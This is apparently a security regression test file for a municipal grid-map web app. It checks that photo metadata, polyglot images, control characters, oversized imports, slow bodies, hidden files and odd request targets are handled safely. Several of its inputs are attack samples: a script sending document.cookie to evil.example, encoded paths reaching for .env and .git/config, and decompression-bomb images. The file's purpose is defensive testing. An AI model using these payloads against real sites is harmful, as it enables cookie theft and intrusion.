/**
 * The second round of an outside tester's probes, through the real HTTP app on a database of its
 * own. What was open and is now closed:
 * - residents' photos kept as sent: EXIF with the phone's GPS position of the resident's home, text
 *   chunks, anything appended after the image (JPEG/HTML polyglots), dimensions no phone can decode;
 * - imported names and codes with what every JSON body is refused for (a right-to-left override, a
 *   terminal escape, C1 controls) were stored; NUL or a lone surrogate refused the whole file with
 *   a message naming no row;
 * - a CSV of one 20 MB cell or of a million columns was read for seconds and answered in full; a
 *   small workbook repeating one long shared string in every row was read as gigabytes of text;
 * - a .dbf declaring 4 billion records made the parser build empty rows past the request deadline;
 * - any number of imports could be at work at once, each worker allowed 1.5 GB;
 * - hidden files in the web root (`.env`, `.git/`) were served;
 * - a request body still arriving at the deadline was told "503 the database is unavailable";
 * - a NUL in an upload's file name answered 400 after the rows were written, leaving them unaudited;
 * - an absolute-form request target (`GET http://a@b/ogc`) bypassed the Host check; `OPTIONS *` and
 *   `CONNECT` got an empty reply.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import net, { type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../server/app.js';
import { loadConfig } from '../../server/config.js';
import { serveApp } from '../../server/http/tile-fast-path.js';
import type { Database } from '../../server/db/client.js';
import type { StreetDataset } from '../../data/generate/types.js';
import { reportSecret, signReportToken } from '../../server/resident/report-tokens.js';
import { isolatedApp } from '../helpers/isolated-db.js';
import { rawExchange } from '../helpers/raw-http.js';
import { type Session, as, signInAs } from '../helpers/auth.js';
import { uploadAs } from '../helpers/import-upload.js';
import { writeShapefileZip } from '../../data/formats/shapefile-write.js';
import { writeZip } from '../../data/formats/zip-write.js';
import { readZip } from '../../data/import/zip.js';

type App = ReturnType<typeof createApp>;
let app: App;
let db: Database;
let ds: StreetDataset;
let close: () => Promise<void>;
let admin: Session;

const ZH_EN = /[\u4e00-\u9fff].* \/ .*[a-z]/;

beforeAll(async () => {
  ({ app, db, dataset: ds, close } = await isolatedApp('attack_probes_2'));
  admin = await signInAs(app, 't_admin');
});

afterAll(async () => {
  await close?.();
});

const count = async (sql: string, params: unknown[] = []) => (await db.query<{ n: number }>(sql, params))[0].n;

async function expectRefused(res: Response, status: number, code: string) {
  const body = (await res.json()) as { error: { code: string; message: string } };
  expect(res.status, JSON.stringify(body)).toBe(status);
  expect(body.error.code).toBe(code);
  expect(body.error.message).toMatch(ZH_EN);
}

describe('residents\' photos are kept without what the camera wrote about the resident', () => {
  const hex = (h: string) => Buffer.from(h.replace(/\s+/g, ''), 'hex');
  const segment = (marker: number, payload: Buffer) => Buffer.concat([Buffer.from([0xff, marker, (payload.length + 2) >> 8, (payload.length + 2) & 0xff]), payload]);
  const GPS_TEXT = 'GPS 37.546612N 121.401234E 王家楼3单元';
  /** EXIF (big-endian TIFF): orientation 6 (rotate 90°) and a description holding a position. */
  function exif(): Buffer {
    const text = Buffer.from(`${GPS_TEXT}\0`);
    const ifd = Buffer.alloc(2 + 2 * 12 + 4);
    ifd.writeUInt16BE(2, 0);
    ifd.writeUInt16BE(0x010e, 2); // ImageDescription, ASCII, at offset 8 + ifd.length
    ifd.writeUInt16BE(2, 4);
    ifd.writeUInt32BE(text.length, 6);
    ifd.writeUInt32BE(8 + ifd.length, 10);
    ifd.writeUInt16BE(0x0112, 14); // Orientation, SHORT, 6
    ifd.writeUInt16BE(3, 16);
    ifd.writeUInt32BE(1, 18);
    ifd.writeUInt16BE(6, 22);
    return segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0'), hex('4d4d002a00000008'), ifd, text]));
  }
  /** The 1×1 JPEG of the resident-report tests (it has no end marker), split after its JFIF header. */
  const tiny = Buffer.from('/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=', 'base64');
  const jfif = tiny.subarray(0, 20);
  const rest = tiny.subarray(20);
  const HTML = '<html><script>fetch("https://evil.example/?c="+document.cookie)</script></html>';
  const camera = Buffer.concat([jfif, exif(), segment(0xfe, Buffer.from(`comment ${GPS_TEXT}`)), segment(0xed, Buffer.from(`Photoshop 3.0\0${GPS_TEXT}`)), rest, hex('ffd9'), Buffer.from(HTML)]);

  const chunk = (type: string, data: Buffer) => {
    const out = Buffer.alloc(12 + data.length);
    out.writeUInt32BE(data.length, 0);
    out.write(type, 4, 'latin1');
    data.copy(out, 8);
    return out; // CRC left zero: not what is probed
  };
  const ihdr = (w: number, h: number) => {
    const d = Buffer.alloc(13);
    d.writeUInt32BE(w, 0);
    d.writeUInt32BE(h, 4);
    d.set([8, 6, 0, 0, 0], 8);
    return chunk('IHDR', d);
  };
  const PNG_SIGNATURE = hex('89504e470d0a1a0a');
  const png = (w: number, h: number, extra: Buffer[] = []) =>
    Buffer.concat([PNG_SIGNATURE, ihdr(w, h), ...extra, chunk('IDAT', deflateSync(Buffer.alloc(5))), chunk('IEND', Buffer.alloc(0))]);

  async function report(photo: Buffer, type: string) {
    const token = signReportToken(await reportSecret(db), { kind: 'building', code: ds.plan.grids[3].buildingCodes[0] });
    const res = await app.request(`/api/public/report/${token}`, {
      method: 'POST', headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ category: 'repair', description: '楼道灯坏了好几天', photo: `data:${type};base64,${photo.toString('base64')}` }),
    });
    await db.query('DELETE FROM report_rate');
    return res;
  }
  const served = async (res: Response) => {
    expect(res.status).toBe(201);
    const { id } = (await res.json()) as { id: number };
    const photo = await app.request(`/api/requests/${id}/photo`, { headers: as(admin) });
    expect(photo.status).toBe(200);
    return { type: photo.headers.get('content-type'), bytes: Buffer.from(await photo.arrayBuffer()) };
  };

  it('a phone\'s JPEG loses its EXIF position, comments, IPTC and the HTML after its end — and keeps its orientation', async () => {
    const { type, bytes } = await served(await report(camera, 'image/jpeg'));
    expect(type).toBe('image/jpeg');
    const text = bytes.toString('latin1');
    expect(text).not.toContain('GPS');
    expect(bytes.includes(Buffer.from('王家楼'))).toBe(false);
    expect(text).not.toContain('<script>');
    expect(text).not.toContain('Photoshop');
    // JFIF first, then an EXIF block holding orientation 6 alone, then the picture as it was, then its end.
    expect(bytes.subarray(0, jfif.length).equals(jfif)).toBe(true);
    const app1 = bytes.subarray(jfif.length, jfif.length + 36);
    expect(app1.subarray(0, 2).equals(hex('ffe1'))).toBe(true);
    expect(app1.subarray(4, 10).toString('latin1')).toBe('Exif\0\0');
    expect(app1.readUInt16BE(2 + 2 + 6 + 8 + 2 + 8)).toBe(6);
    expect(bytes.subarray(jfif.length + 36).equals(Buffer.concat([rest, hex('ffd9')]))).toBe(true);
  });

  it('a PNG loses its text chunks and what follows IEND; a clean one is kept byte for byte', async () => {
    const clean = png(2, 2);
    const tagged = png(2, 2, [chunk('tEXt', Buffer.from(`Comment\0${GPS_TEXT}`)), chunk('eXIf', Buffer.from('MM\0*GPS'))]);
    const got = await served(await report(Buffer.concat([tagged, Buffer.from(HTML)]), 'image/png'));
    expect(got.type).toBe('image/png');
    expect(got.bytes.equals(clean)).toBe(true);
    expect((await served(await report(clean, 'image/png'))).bytes.equals(clean)).toBe(true);
  });

  it('magic bytes followed by anything else, a broken structure or a decompression bomb\'s dimensions are refused; nothing stored', async () => {
    const before = await count('SELECT count(*)::int AS n FROM requests');
    await expectRefused(await report(Buffer.concat([hex('ffd8'), Buffer.from(HTML)]), 'image/jpeg'), 400, 'invalid_photo');
    await expectRefused(await report(Buffer.concat([PNG_SIGNATURE, Buffer.from(HTML)]), 'image/png'), 400, 'invalid_photo');
    await expectRefused(await report(Buffer.concat([jfif, hex('ffdb00ff00')]), 'image/jpeg'), 400, 'invalid_photo');
    // 60,000 × 60,000 pixels in a few hundred bytes: 14 GB to decode on a grid worker's phone.
    await expectRefused(await report(png(60_000, 60_000), 'image/png'), 400, 'photo_too_large');
    const bigJpeg = Buffer.from(rest);
    bigJpeg.writeUInt16BE(40_000, 2 + 2 + 1 + 64 + 5); // SOF height
    bigJpeg.writeUInt16BE(40_000, 2 + 2 + 1 + 64 + 7); // SOF width
    await expectRefused(await report(Buffer.concat([jfif, bigJpeg, hex('ffd9')]), 'image/jpeg'), 400, 'photo_too_large');
    expect(await count('SELECT count(*)::int AS n FROM requests')).toBe(before);
  });

  it('a photo stored before the cleaning is cleaned on the way out; stored bytes that are no image are only a download', async () => {
    const res = await report(png(2, 2), 'image/png');
    const { id } = (await res.json()) as { id: number };
    await db.query('UPDATE requests SET photo = $1, photo_type = $2 WHERE id = $3', [camera, 'image/jpeg', id]);
    const photo = await app.request(`/api/requests/${id}/photo`, { headers: as(admin) });
    expect(Buffer.from(await photo.arrayBuffer()).toString('latin1')).not.toContain('GPS');
    await db.query('UPDATE requests SET photo = $1 WHERE id = $2', [Buffer.concat([hex('ffd8'), Buffer.from(HTML)]), id]);
    const bad = await app.request(`/api/requests/${id}/photo`, { headers: as(admin) });
    expect(bad.headers.get('content-type')).toBe('application/octet-stream');
    expect(bad.headers.get('content-disposition')).toBe('attachment');
  });
});

describe('imported text is held to the rules of every JSON body', () => {
  it('a name with a right-to-left override, a terminal escape, a C1 control, NUL or a lone surrogate is a row error naming its column; the other rows are written', async () => {
    const tricks = ['卫生\u202e站', '幼儿园\u001b[2J', '幼儿园\u0085', '幼\u0000儿园', '幼\ud800儿园'];
    const feature = (code: string, name: string) => ({ type: 'Feature', properties: { code, name, category: 'kindergarten' }, geometry: { type: 'Point', coordinates: [121.4, 37.5] } });
    const fc = { type: 'FeatureCollection', features: [...tricks.map((n, i) => feature(`FX-BAD-${i}`, n)), feature('FX-GOOD-1', '阳光幼儿园')] };
    const res = await uploadAs(app, admin, 'facilities.geojson', new TextEncoder().encode(JSON.stringify(fc)), 'layer=facilities&crs=wgs84');
    const body = (await res.json()) as { counts: { valid: number; errors: number; inserts: number }; errors: { row: number; field: string; en: string }[] };
    expect(res.status, JSON.stringify(body).slice(0, 300)).toBe(200);
    expect(body.counts).toMatchObject({ valid: 1, errors: tricks.length, inserts: 1 });
    expect(body.errors.map((e) => [e.row, e.field])).toEqual(tricks.map((_, i) => [i + 1, 'name']));
    expect(body.errors[0].en).toMatch(/control characters/);
    expect(await count(`SELECT count(*)::int AS n FROM facilities WHERE code LIKE 'FX-BAD-%'`)).toBe(0);
    expect(await count(`SELECT count(*)::int AS n FROM facilities WHERE code = 'FX-GOOD-1'`)).toBe(1);
  });

  it('an OSM name tag with a character reference to a control is a row error too', async () => {
    const osm = '<osm version="0.6"><node id="1" lat="37.5" lon="121.4"><tag k="amenity" v="kindergarten"/><tag k="name" v="幼&#x202E;儿园"/></node></osm>';
    const res = await uploadAs(app, admin, 'x.osm', new TextEncoder().encode(osm), 'layer=facilities&dryRun=1');
    const body = (await res.json()) as { counts: { valid: number; errors: number } };
    expect(res.status).toBe(200);
    expect(body.counts).toMatchObject({ valid: 0, errors: 1 });
  });
});

describe('the upload\'s file name and mapping', () => {
  /** A multipart body written by hand, so the file name can hold what a browser would not send. */
  const upload = (filename: string, csv: string, mapping?: string) => {
    const b = 'gridatlas-probe-boundary';
    const parts = [`--${b}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: text/csv\r\n\r\n${csv}\r\n`];
    if (mapping !== undefined) parts.push(`--${b}\r\nContent-Disposition: form-data; name="mapping"\r\n\r\n${mapping}\r\n`);
    return app.request('/api/import?layer=facilities&crs=wgs84', {
      method: 'POST', body: new TextEncoder().encode(`${parts.join('')}--${b}--\r\n`),
      headers: { 'content-type': `multipart/form-data; boundary=${b}`, cookie: admin.cookie, 'x-csrf-token': admin.csrf },
    });
  };
  const csv = (code: string) => `code,name,category,lng,lat\n${code},阳光幼儿园,kindergarten,121.4,37.5\n`;
  const audited = () => count(`SELECT count(*)::int AS n FROM audit_log WHERE action = 'import'`);

  it('a NUL or a right-to-left override in the file name is a 400 before anything is written (a NUL used to answer 400 after writing, unaudited); a NUL in a header cell no longer fails the import', async () => {
    const before = await audited();
    await expectRefused(await upload('名单\u0000.csv', csv('FN-NUL')), 400, 'invalid_input');
    await expectRefused(await upload('名单\u202evsc.csv', csv('FN-RLO')), 400, 'invalid_input');
    await expectRefused(await upload(`${'名'.repeat(300)}.csv`, csv('FN-LONG')), 400, 'invalid_input');
    await expectRefused(await upload('名单.csv', csv('FN-MAP'), JSON.stringify({ code: 'code', name: 'na\u0000me' })), 400, 'invalid_input');
    expect(await count(`SELECT count(*)::int AS n FROM facilities WHERE code LIKE 'FN-%'`)).toBe(0);
    expect(await audited()).toBe(before);
    // A header cell with a NUL: the rows import; only the mapping is not remembered for that header.
    const nulHeader = await upload('名单.csv', 'code,name,category,lng,lat,备\u0000注\nFN-HDR,阳光幼儿园,kindergarten,121.4,37.5,x\n', JSON.stringify({ code: 'code', name: 'name', category: 'category', lng: 'lng', lat: 'lat' }));
    expect(nulHeader.status, (await nulHeader.clone().text()).slice(0, 300)).toBe(200);
    expect(await count(`SELECT count(*)::int AS n FROM facilities WHERE code = 'FN-HDR'`)).toBe(1);
    await db.query(`DELETE FROM facilities WHERE code = 'FN-HDR'`);
    const ok = await upload('名单 2024.csv', csv('FN-OK'));
    expect(ok.status).toBe(200);
    expect(await audited()).toBe(before + 2);
  });
});

describe('tables beyond what a spreadsheet can hold are refused as they are read', () => {
  const upload = (csv: string) => uploadAs(app, admin, 'x.csv', new TextEncoder().encode(csv), 'layer=facilities&dryRun=1&crs=wgs84');

  it('one 20 MB cell, quoted or not, and a header of 200,000 columns: 413 too_large in seconds', async () => {
    for (const csv of ['x'.repeat(20_000_000), `code,name,lng,lat\nF1,"${'x'.repeat(20_000_000)}`, Array.from({ length: 200_000 }, (_, i) => `c${i}`).join(',')]) {
      const t0 = performance.now();
      const res = await upload(csv);
      await expectRefused(res, 413, 'too_large');
      expect(performance.now() - t0).toBeLessThan(8_000);
    }
    expect((await app.request('/api/health')).status).toBe(200);
  });

  it('a 0.3 MB workbook repeating one 30,000-character shared string in every row is refused, not read as 60 million characters', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('设施');
    ws.addRow(['code', 'name', 'category', 'lng', 'lat']);
    const name = '名'.repeat(30_000);
    for (let i = 0; i < 2_000; i++) ws.addRow([`FS${i}`, name, 'kindergarten', 121.4, 37.5]);
    const bytes = new Uint8Array(await wb.xlsx.writeBuffer());
    expect(bytes.length).toBeLessThan(400_000);
    const res = await uploadAs(app, admin, 'x.xlsx', bytes, 'layer=facilities&dryRun=1&crs=wgs84');
    await expectRefused(res, 413, 'too_large');
  });

  it('a GeoJSON file whose features carry 20,000 property names is as wide as a table: 413, not an answer listing them all', async () => {
    const props = Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`k${i}`, 1]));
    const fc = { type: 'FeatureCollection', features: [{ type: 'Feature', properties: { code: 'W1', ...props }, geometry: { type: 'Point', coordinates: [121.4, 37.5] } }] };
    await expectRefused(await uploadAs(app, admin, 'w.geojson', new TextEncoder().encode(JSON.stringify(fc)), 'layer=facilities&dryRun=1&crs=wgs84'), 413, 'too_large');
  });

  it('a cell of 32,767 characters and 16,384 columns are still read', async () => {
    const wide = `code,name,category,lng,lat,${Array.from({ length: 16_379 }, (_, i) => `c${i}`).join(',')}\nF1,"${'名'.repeat(32_767)}",kindergarten,121.4,37.5\n`;
    const res = await upload(wide);
    expect(res.status).toBe(200);
  });
});

describe('a shapefile whose .dbf header lies', () => {
  it('a record count of 4,294,967,295 (or records of 0 bytes, or a header longer than the file) is a 400 at once, not minutes of empty rows', async () => {
    const features = Array.from({ length: 3 }, (_, i) => ({ type: 'Feature' as const, properties: { code: `S${i}`, name: '幼儿园', category: 'kindergarten' }, geometry: { type: 'Point' as const, coordinates: [121.4, 37.5] } }));
    const entries = readZip(writeShapefileZip(features, { name: 'f', kind: 'point' }));
    const withDbf = (change: (dbf: Buffer) => void) =>
      writeZip([...entries].map(([name, data]) => {
        const b = Buffer.from(data);
        if (name.endsWith('.dbf')) change(b);
        return { name, data: new Uint8Array(b) };
      }));
    const lies: ((b: Buffer) => void)[] = [(b) => b.writeUInt32LE(0xffffffff, 4), (b) => b.writeUInt16LE(0, 10), (b) => b.writeUInt16LE(0xffff, 8)];
    for (const lie of lies) {
      const t0 = performance.now();
      const res = await Promise.race([
        uploadAs(app, admin, 'f.zip', withDbf(lie), 'layer=facilities&dryRun=1&crs=wgs84'),
        new Promise<never>((_, reject) => setTimeout(() => reject(new Error('no answer within 20 s')), 20_000)),
      ]);
      const body = (await res.json()) as { error: { code: string; message: string } };
      expect(res.status, JSON.stringify(body)).toBe(400);
      expect(body.error.code).toBe('invalid_file');
      expect(body.error.message).toMatch(/f\.dbf .* \/ f\.dbf (declares|is)/);
      expect(performance.now() - t0).toBeLessThan(10_000);
    }
    // The same file with its header intact still reads.
    expect((await uploadAs(app, admin, 'f.zip', withDbf(() => {}), 'layer=facilities&dryRun=1&crs=wgs84')).status).toBe(200);
  });
});

describe('imports at work at once are bounded', () => {
  it(`a third import while two are at work is a 429 with Retry-After (each worker may take 1.5 GB); once they end, imports run again`, async () => {
    const rows = Array.from({ length: 60_000 }, (_, i) => `FC${i},幼儿园${i},kindergarten,${(121.4 + (i % 300) * 1e-4).toFixed(6)},37.5`);
    const csv = new TextEncoder().encode(`code,name,category,lng,lat\n${rows.join('\n')}\n`);
    const started: string[] = [];
    for (let i = 0; i < 2; i++) {
      const res = await uploadAs(app, admin, 'big.csv', csv, 'layer=facilities&dryRun=1&crs=wgs84&async=1');
      expect(res.status).toBe(202);
      started.push(((await res.json()) as { job: { id: string } }).job.id);
    }
    const busy = await uploadAs(app, admin, 'small.csv', new TextEncoder().encode('code,name,category,lng,lat\nF1,幼儿园,kindergarten,121.4,37.5\n'), 'layer=facilities&dryRun=1&crs=wgs84');
    expect(busy.headers.get('retry-after')).toBe('10');
    await expectRefused(busy, 429, 'too_many_imports');
    for (const id of started) {
      for (let t = 0; t < 300; t++) {
        const job = (await (await app.request(`/api/jobs/${id}`, { headers: as(admin) })).json()) as { status: string };
        if (job.status === 'done' || job.status === 'failed') break;
        await new Promise((r) => setTimeout(r, 200));
      }
    }
    const again = await uploadAs(app, admin, 'small.csv', new TextEncoder().encode('code,name,category,lng,lat\nF1,幼儿园,kindergarten,121.4,37.5\n'), 'layer=facilities&dryRun=1&crs=wgs84');
    expect(again.status).toBe(200);
  });
});

describe('a body that never finishes arriving', () => {
  it('is a 408 request_timeout at the deadline and the connection is closed — not "the database is down"', async () => {
    const slow = createApp({ db, config: loadConfig({ GRIDATLAS_REQUEST_TIMEOUT_MS: '1500' }) });
    const server = serveApp(slow, { port: 0, hostname: '127.0.0.1' });
    await new Promise((r) => server.once('listening', r));
    const { port } = server.address() as AddressInfo;
    const token = signReportToken(await reportSecret(db), { kind: 'building', code: ds.plan.grids[4].buildingCodes[0] });
    try {
      const t0 = performance.now();
      const reply = await new Promise<string>((resolve, reject) => {
        const socket = net.connect(port, '127.0.0.1', () =>
          socket.write(`POST /api/public/report/${token} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"category":`));
        const chunks: Buffer[] = [];
        socket.on('data', (c: Buffer) => chunks.push(c));
        socket.on('close', () => resolve(Buffer.concat(chunks).toString('utf8')));
        socket.on('error', reject);
      });
      expect(performance.now() - t0).toBeLessThan(10_000);
      const [head, body] = reply.split('\r\n\r\n');
      expect(head.split('\r\n')[0]).toBe('HTTP/1.1 408 Request Timeout');
      const parsed = JSON.parse(body) as { error: { code: string; message: string } };
      expect(parsed.error.code).toBe('request_timeout');
      expect(parsed.error.message).toMatch(ZH_EN);
    } finally {
      (server as unknown as { closeAllConnections?: () => void }).closeAllConnections?.();
      await new Promise<void>((r) => server.close(() => r()));
    }
  });
});

describe('hidden files in the web root', () => {
  it('`.env`, `.git/config` and the like are a 404 however spelled; pages, assets and /.well-known still serve', async () => {
    const root = mkdtempSync(join(tmpdir(), 'ga-web-'));
    mkdirSync(join(root, 'assets'));
    mkdirSync(join(root, '.git'));
    mkdirSync(join(root, '.well-known'));
    writeFileSync(join(root, 'index.html'), '<!doctype html><title>网格地图</title>');
    writeFileSync(join(root, 'assets', 'app-1a2b3c.js'), 'console.log(1)');
    writeFileSync(join(root, '.env'), 'DATABASE_URL=postgres://secret');
    writeFileSync(join(root, '.git', 'config'), '[core]');
    writeFileSync(join(root, 'assets', '.app.js.swp'), 'secret');
    writeFileSync(join(root, '.well-known', 'security.txt'), 'Contact: mailto:sec@example.gov.cn');
    try {
      const web = createApp({ db, config: loadConfig({ GRIDATLAS_WEB_DIR: root }) });
      for (const path of ['/.env', '/%2eenv', '/%2Eenv', '/.git/config', '/assets/.app.js.swp', '/assets/%2eapp.js.swp', '/assets/../.env']) {
        const res = await web.request(path);
        const text = await res.text();
        expect(res.status, path).toBe(404);
        expect(text, path).not.toMatch(/secret|\[core\]/);
      }
      expect((await web.request('/assets/app-1a2b3c.js')).status).toBe(200);
      expect(await (await web.request('/report')).text()).toContain('网格地图');
      expect(await (await web.request('/.well-known/security.txt')).text()).toContain('Contact');
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});

describe('request targets that are not a path', () => {
  it('an absolute-form target is held to the Host check; `OPTIONS *` and CONNECT get a bilingual JSON answer, not an empty one', async () => {
    const server = serveApp(app, { port: 0, hostname: '127.0.0.1' });
    await new Promise((r) => server.once('listening', r));
    const { port } = server.address() as AddressInfo;
    try {
      const cases: [string, number, string][] = [
        // Before: 200, with every OGC link naming host `b` — what `Host: a@b` is refused for.
        ['GET http://a@b/ogc HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n', 400, 'invalid_host'],
        ['GET http://[::1/ogc HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n', 400, 'invalid_host'],
        ['OPTIONS * HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n', 400, 'invalid_path'],
        ['CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n', 405, 'method_not_allowed'],
      ];
      for (const [bytes, status, code] of cases) {
        const reply = await rawExchange(port, bytes);
        const [head, body] = reply.split('\r\n\r\n');
        expect(head.split('\r\n')[0], bytes.slice(0, 40)).toMatch(new RegExp(`^HTTP/1.1 ${status} `));
        expect(head).toMatch(/content-type: application\/json; charset=utf-8/i);
        const parsed = JSON.parse(body) as { error: { code: string; message: string } };
        expect(parsed.error.code, bytes.slice(0, 40)).toBe(code);
        expect(parsed.error.message).toMatch(ZH_EN);
      }
      // A well-formed absolute-form target is served as RFC 9112 says: its authority is the host.
      const ok = await rawExchange(port, 'GET http://grid.example.gov.cn/ogc?f=json HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n');
      expect(ok.startsWith('HTTP/1.1 200')).toBe(true);
      expect(ok).toContain('"href":"http://grid.example.gov.cn/ogc');
      expect((await rawExchange(port, 'GET /api/health HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n')).startsWith('HTTP/1.1 200')).toBe(true);
    } finally {
      await new Promise<void>((r) => server.close(() => r()));
    }
  });
});
